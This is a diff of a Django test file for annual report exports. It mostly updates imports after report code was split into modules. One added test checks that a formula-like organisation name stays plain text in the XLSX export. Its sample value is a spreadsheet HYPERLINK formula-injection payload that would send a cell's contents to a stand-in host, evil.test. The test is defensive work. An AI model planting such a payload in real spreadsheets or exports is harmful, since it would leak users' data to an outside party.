@@ -22,9 +22,12 @@ from openpyxl import load_workbook
 from clusterdesk.core.roles import Role
 from clusterdesk.crm.models import Membership
 from clusterdesk.jobs.models import Job
-from clusterdesk.results import reports
 from clusterdesk.results.indicators import Scope, compute
 from clusterdesk.results.models import Outcome
+from clusterdesk.results.reports import access as report_access
+from clusterdesk.results.reports import data as reports
+from clusterdesk.results.reports import formatting
+from clusterdesk.results.reports.pdf import report_html
 from tests.conftest import Tenant, client_for
 from tests.factories import OrganisationFactory, follow
 from tests.results.test_indicators import labelled_project
@@ -120,16 +123,16 @@ def test_annual_report_is_a_pdf_made_of_the_computed_key_figures(
         report = reports.annual_report(
             cluster=tenant_a.cluster,
             year=2010,
-            access=reports.access_of(tenant_a.director, tenant_a.cluster),
+            access=report_access.access_of(tenant_a.director, tenant_a.cluster),
         )
-        html = reports.report_html(report)
+        html = report_html(report)
         figures = {f.name: f for f in report.figures}
         for name in ("projects_labelled", "public_aid_eur", "investment_eur", "jobs_created"):
             assert figures[name].value == now[name] and figures[name].previous == before[name]
             assert figures[name].text in html and figures[name].previous_text in html
         expected = [
-            reports.format_value(now["public_aid_eur"], "eur"),
-            reports.format_value(now["jobs_created"], "fte"),
+            formatting.format_value(now["public_aid_eur"], "eur"),
+            formatting.format_value(now["jobs_created"], "fte"),
         ]
     assert now["projects_labelled"] == 2 and before["projects_labelled"] == 1
     assert now["public_aid_eur"] == Decimal(1_100_000)
@@ -176,6 +179,33 @@ def test_annual_report_as_xlsx_has_each_table_on_its_own_sheet(
     }
 
 
+def test_annual_report_as_xlsx_keeps_a_formula_like_name_as_text(
+    tenant_a: Tenant, world: None, django_capture_on_commit_callbacks: Any
+) -> None:
+    name = '=HYPERLINK("http://evil.test/?x="&A1,"click")'
+    with scopes_disabled():
+        org = follow(tenant_a.cluster, OrganisationFactory(name=name, kind="pme"))
+        Membership.objects.create(
+            cluster=tenant_a.cluster, organisation=org, year=2010, status="active"
+        )
+    client = _english(client_for(tenant_a.people[Role.PROJECT_MANAGER]))
+    url = reverse("results_reports:annual", args=[tenant_a.cluster.slug])
+    _job, content = _run(
+        client, url, {"year": 2010, "format": "xlsx"}, django_capture_on_commit_callbacks
+    )
+    members = load_workbook(io.BytesIO(content))["Members in 2010"]
+    cells = [row[0] for row in members.iter_rows(min_row=2)]
+    assert name in [c.value for c in cells]
+    workbook = load_workbook(io.BytesIO(content))
+    assert not [
+        c.coordinate
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for c in row
+        if c.data_type == "f"
+    ]
+
+
 def test_funders_report_holds_aggregates_and_never_an_application(
     tenant_a: Tenant,
     world: None,
@@ -208,8 +238,8 @@ def test_funders_report_holds_aggregates_and_never_an_application(
         django_capture_on_commit_callbacks,
     )
     with scope(cluster=tenant_a.cluster), translation.override("en"):
-        access = reports.access_of(region_funder, tenant_a.cluster)
-        html = reports.report_html(
+        access = report_access.access_of(region_funder, tenant_a.cluster)
+        html = report_html(
             reports.annual_report(cluster=tenant_a.cluster, year=2010, access=access)
         )
         figures = compute(_year_2010(tenant_a), ["projects_labelled"])
@@ -275,8 +305,8 @@ def test_reports_need_the_indicators_permission_and_list_what_each_may_read(
         assert client_for(tenant_a.people[role]).get(url).status_code == 403, role
     cluster = tenant_a.cluster
     with scopes_disabled():
-        finance = reports.access_of(tenant_a.people[Role.FINANCE], cluster)
-        manager = reports.access_of(tenant_a.people[Role.PROJECT_MANAGER], cluster)
+        finance = report_access.access_of(tenant_a.people[Role.FINANCE], cluster)
+        manager = report_access.access_of(tenant_a.people[Role.PROJECT_MANAGER], cluster)
     assert finance.record_groups == {"members"}  # members, but no project
     assert manager.record_groups == {"members", "projects", "outcomes"}
 
